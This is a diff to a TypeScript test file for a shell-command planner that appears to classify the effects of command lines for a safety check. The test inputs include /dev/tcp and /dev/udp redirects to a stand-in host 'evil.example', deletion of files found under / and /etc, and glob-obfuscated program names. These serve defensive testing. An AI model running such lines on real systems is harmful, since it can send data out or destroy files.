@@ -104,8 +104,8 @@ test.each<[string, string[]]>([
   ['ls >&2 2>&- 3>&1- <&0', []],
   ['ls > /dev/stdout 2> /dev/stderr 3> /dev/fd/1', []],
   ['ls > /dev/tty', ['terminal /dev/tty']],
-  ['ls > /dev/tcp/evil.example/80', ['contact evil.example redirect']],
-  ['exec 3<> /dev/udp/evil.example/53', ['contact evil.example redirect']],
+  ['ls > /dev/tcp/evil.example/80', ['contact evil.example network tool']],
+  ['exec 3<> /dev/udp/evil.example/53', ['contact evil.example network tool']],
   ['{ ls; } > x', [`write ${root}/x redirect`]],
   ['while a; do b; done < x', [`read ${root}/x redirect`]],
   ['if a; then b; fi 2>> x', [`write ${root}/x redirect`]],
@@ -330,11 +330,73 @@ test('what stands before a cut is still planned, and the cut is a doubt', () => 
   const long = plan(`rm x; ${'# '.repeat(40_000)}`);
   expect(long.commands[0]?.name).toBe('rm');
   expect(long.doubts.map(({ kind }) => kind)).toContain('too-large');
-  const many = plan('rm x; '.repeat(600));
+  const many = plan('echo x; '.repeat(530));
   expect(many.commands).toHaveLength(512);
   expect(many.doubts.map(({ kind }) => kind)).toContain('too-large');
   const words = plan(`rm ${'a '.repeat(20_000)}`);
   expect(words.commands[0]?.name).toBe('rm');
+});
+
+test('a process substitution that touches a word is part of it', () => {
+  const words = (line: string) => plan(line).commands.map(({ argv }) => argv.length);
+  expect(words('rm a<(ls)c d')).toEqual([3, 1]);
+  expect(words("rm >(ls)''")).toEqual([2, 1]);
+  expect(words('for i in a<(ls)c; do rm $i; done')).toEqual([1, 2]);
+  expect(doubtsOf('a=b<(ls)c rm x')).toContain('arguments');
+});
+
+test('a variable whose name begins on the next line is not taken for text', () => {
+  expect(doubtsOf('ls$\\\nrm x')).toContain('syntax');
+  expect(doubtsOf('ls "a$\\\n" x')).toEqual([]);
+});
+
+test('braces leave the code in $[ ] as it is', () => {
+  expect(plan('echo $[ $({ls ,rm }a; echo 1) ]').commands.map(({ name }) => name)).toEqual(['echo', '{ls', 'echo']);
+});
+
+test('set with an option that there is none leaves the arguments as they were', () => {
+  expect(doubtsOf('set --{ rm x; "$@" y')).toContain('arguments');
+  expect(doubtsOf('set -- ls x; "$@" y')).toEqual([]);
+});
+
+test('the names that a search finds lie below the folders it looks through', () => {
+  const within = (line: string) =>
+    plan(line).commands.flatMap(({ effects }) => effects.map(({ target }) => target?.within));
+  const find: PlanContext['describe'] = (invocation) =>
+    invocation.name === 'find'
+      ? {
+          effects: invocation.args.map((target) => ({ kind: 'read', target, note: 'found' })),
+          nested: [],
+          doubts: [],
+          isQuiet: true,
+        }
+      : describeFew(invocation);
+  const below = (line: string) =>
+    plan(line, { describe: find })
+      .commands.filter(({ name }) => name === 'rm')
+      .flatMap(({ effects }) => effects.map(({ target }) => target?.within));
+  expect(within('rm "$UNKNOWN"')).toEqual([undefined]);
+  expect(below('find / | while read f; do rm "$f"; done')).toEqual(['/']);
+  expect(below('rm $(find /etc)')).toEqual(['/etc']);
+  expect(below('rm $(find src test)')).toEqual([root]);
+});
+
+test('the place of a program is that program, or nothing', () => {
+  const names = (line: string) => plan(line).commands.map(({ name }) => name);
+  expect(names('T=$(command -v rm); "$T" x')).toEqual(['command', 'rm']);
+  expect(names('$(command -v rm) ls x')).toEqual(['rm', 'command', 'ls']);
+  expect(doubtsOf('T=$(command -v rm || command -v ls); "$T" x')).toEqual([]);
+  expect(names('T=$(command -v rm || command -v ls); "$T" x')).toContain('ls');
+  expect(doubtsOf('T=$(command -v "$X"); "$T" x')).toContain('dynamic-command');
+});
+
+test('a pattern in the place of a program is planned as the programs it can be', () => {
+  const programs = ['rm', 'rg', 'ls', ...Array.from({ length: 20 }, (_, at) => `many${at}`)];
+  const names = (line: string) => plan(line, { programs }).commands.map(({ name }) => name);
+  expect(names('/bin/r? x')).toEqual([null, 'rm', 'rg']);
+  expect(names('/???/r[m] x')).toEqual([null, 'rm']);
+  expect(names('./r? x')).toEqual([null]);
+  expect(names('/bin/m* x')).toEqual([null]);
 });
 
 test('code within code is followed sixteen levels deep, and no further without a doubt', () => {
